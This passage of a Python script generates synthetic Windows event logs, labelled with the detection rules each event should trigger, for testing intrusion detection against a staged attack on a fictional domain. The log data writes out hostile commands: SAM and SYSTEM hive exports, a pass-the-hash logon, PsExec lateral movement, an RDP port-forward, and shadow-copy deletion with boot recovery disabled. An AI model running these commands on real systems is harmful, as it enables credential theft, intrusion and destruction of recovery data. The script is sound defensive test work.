          r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|"
          r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24010.12-0\mpsvc.dll+1f5a2e"), [], "Defender scans lsass (excluded source: near miss for lsass_memory_access)"
    yield t("09:33:40.147702"), A, process_creation(t("09:33:40.147702"), A, 9830, REG,
          rf"reg  save HKLM\SAM {DROP}\sam.hiv /y", 9480, CMD, f'"{CMD}"', mk, "High"), ["sam_hive_export"], \
        "SAM hive exported"
    yield t("09:33:42.510396"), A, process_creation(t("09:33:42.510396"), A, 9866, REG,
          rf"reg  save HKLM\SYSTEM {DROP}\sys.hiv /y", 9480, CMD, f'"{CMD}"', mk, "High"), ["sam_hive_export"], \
        "SYSTEM hive exported (boot key)"
    yield t("09:34:10.883620"), C, process_creation(t("09:34:10.883620"), C, 6804, REG,
          r"reg  query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall /s", 6688, POWERSHELL,
          r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -File \\halvorsen.local\NETLOGON\inventory.ps1',
          jo, "High"), [], "inventory: reg query (near miss for sam_hive_export)"

    # --- pass the hash and lateral movement -------------------------------
    yield t("09:38:52.204117"), A, logon(t("09:38:52.204117"), A, 9, "seclogo", "Negotiate", mk,
          (mk, sid(mk), USERS[mk][1]), "::1", "0", "", r"C:\Windows\System32\svchost.exe", "0x5c4",
          outbound_user="svc_backup", elevated="%%1842"), ["pass_the_hash_logon"], \
        "sekurlsa::pth with svc_backup's NTLM hash: NewCredentials logon through seclogo"
    yield t("09:39:58.731046"), A, process_creation(t("09:39:58.731046"), A, 10044, PSEXEC,
          rf"{PSEXEC}  \\hf-fs01.halvorsen.local -accepteula -s cmd.exe", 10012, CMD, f'"{CMD}"', mk, "High"), [], \
        "PsExec from the pass-the-hash shell to the file server (source side, no alert)"
    yield t("09:40:12.559380"), B, logon(t("09:40:12.559380"), B, 3, "NtLmSsp ", "NTLM", "svc_backup",
          no_subject, "10.20.4.142", "50788", "HF-WS-0142", "-", "0x0"), [], \
        "svc_backup logs on to HF-FS01 over the network with NTLM"
    yield t("09:40:13.020771"), B, file_create(t("09:40:13.020771"), B, 4, "System", PSEXESVC), [], "PSEXESVC.exe copied to ADMIN$"
    yield t("09:40:13.644510"), B, process_creation(t("09:40:13.644510"), B, 5232, PSEXESVC, PSEXESVC,
          748, SERVICES, SERVICES, "SYSTEM", "System"), [], \
        "services.exe starts the PsExec service (near miss for psexec_service_child)"
    yield t("09:40:15.198263"), B, process_creation(t("09:40:15.198263"), B, 5316, CMD, '"cmd.exe" ',
          5232, PSEXESVC, PSEXESVC, "SYSTEM", "System"), ["psexec_service_child"], "remote shell as SYSTEM"
    yield t("09:40:21.470935"), B, process_creation(t("09:40:21.470935"), B, 5388, WHOAMI, "whoami",
          5316, CMD, '"cmd.exe" ', "SYSTEM", "System"), ["whoami_as_system"], "whoami as SYSTEM"
    yield t("09:40:35.812247"), B, security_process(t("09:40:35.812247"), B, 5420, TASKLIST, CMD,
          "tasklist  /v"), ["tasklist_by_machine_account"], "tasklist by the computer account (Security 4688)"
    yield t("09:42:02.331508"), B, process_creation(t("09:42:02.331508"), B, 5496, NETSH,
          "netsh  interface portproxy add v4tov4 listenport=50443 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.20.1.10",
          5316, CMD, '"cmd.exe" ', "SYSTEM", "System"), [], "port forward 50443 -> the finance server's RDP"
    yield t("09:42:02.352964"), B, registry(t("09:42:02.352964"), B, 13, "SetValue", 5496, NETSH,
          r"HKLM\System\CurrentControlSet\Services\PortProxy\v4tov4\tcp\0.0.0.0/50443", "10.20.1.10/3389"), ["portproxy_rule_added"], "... stored under PortProxy\\v4tov4"
    yield t("09:45:30.118093"), C, image_load(t("09:45:30.118093"), C, 7012, MSTSC,
          r"C:\Windows\System32\mstscax.dll", "Remote Desktop Services ActiveX Client", "mstscax.dll"), [], \
        "j.olsen's RDP client loads mstscax.dll (near miss for headless_rdp_client)"
    yield t("09:45:30.903455"), C, network_connection(t("09:45:30.903455"), C, 7012, MSTSC, jo,
          "10.20.1.21", "HF-FS01.halvorsen.local", 3389, "ms-wbt-server", 51020), [], \
        "... and connects to the file server over the LAN (near miss for rdp_over_loopback_tunnel)"

    # --- impact -----------------------------------------------------------
    yield t("09:50:00.402216"), B, process_creation(t("09:50:00.402216"), B, 5604, VSSADMIN,
          "vssadmin.exe list shadows /for=D:", 2044, BACKUP_AGENT, f'"{BACKUP_AGENT}" --service',
          "SYSTEM", "System"), [], "the backup agent lists shadow copies (near miss for inhibit_system_recovery)"
    yield t("09:51:17.615530"), C, logon_failure(t("09:51:17.615530"), C, jo, "HF-WS-0087"), [], \
        "j.olsen mistypes his password"
    yield t("09:52:10.227981"), B, process_creation(t("09:52:10.227981"), B, 5688, VSSADMIN,
          "vssadmin.exe delete shadows /all /quiet", 5316, CMD, '"cmd.exe" ', "SYSTEM", "System"), \
        ["inhibit_system_recovery"], "shadow copies deleted"
    yield t("09:52:12.874402"), B, process_creation(t("09:52:12.874402"), B, 5712, BCDEDIT,
          "bcdedit.exe  /set {default} recoveryenabled No", 5316, CMD, '"cmd.exe" ', "SYSTEM", "System"), \
        ["inhibit_system_recovery"], "boot recovery disabled"


def main():
    rows = []
    lines = []
    for n, (clock, host, ev, fires, note) in enumerate(scenario()):
        if n == MALFORMED_AFTER:
            # The forwarder lost the end of a Sysmon 3 record: truncated JSON.
            whole = json.dumps(network_connection(Clock("09:31:05.220148"), "WS0142", 9208, RUNDLL32,
                               "m.keller", C2_IP, C2_HOST, 443, "https", 50802),
                               ensure_ascii=False, separators=(",", ":"))
            lines.append(whole[: len(whole) * 3 // 5])
            rows.append((len(lines), "09:31:05.220148", "HF-WS-0142", "(truncated JSON)", [],
                         "malformed line: a Sysmon 3 record cut off in the middle"))
        lines.append(json.dumps(ev, ensure_ascii=False, separators=(",", ":")))
        system = ev["Event"]["System"]
        source = {SYSMON_CHANNEL: "Sysmon", "Security": "Security"}.get(system["Channel"], "PowerShell")
        rows.append((len(lines), clock.system()[11:26], HOSTS[host][0].split(".")[0],
                     f"{source} {system['EventID']}", fires, note))
    if "--table" in sys.argv:
        for line, time, host, kind, fires, note in rows:
            print(f"{line}\t{time}\t{host}\t{kind}\t{', '.join(fires) or '-'}\t{note}")
        return
    OUT.parent.mkdir(parents=True, exist_ok=True)
    OUT.write_text("\n".join(lines) + "\n", encoding="utf-8")


if __name__ == "__main__":
    main()
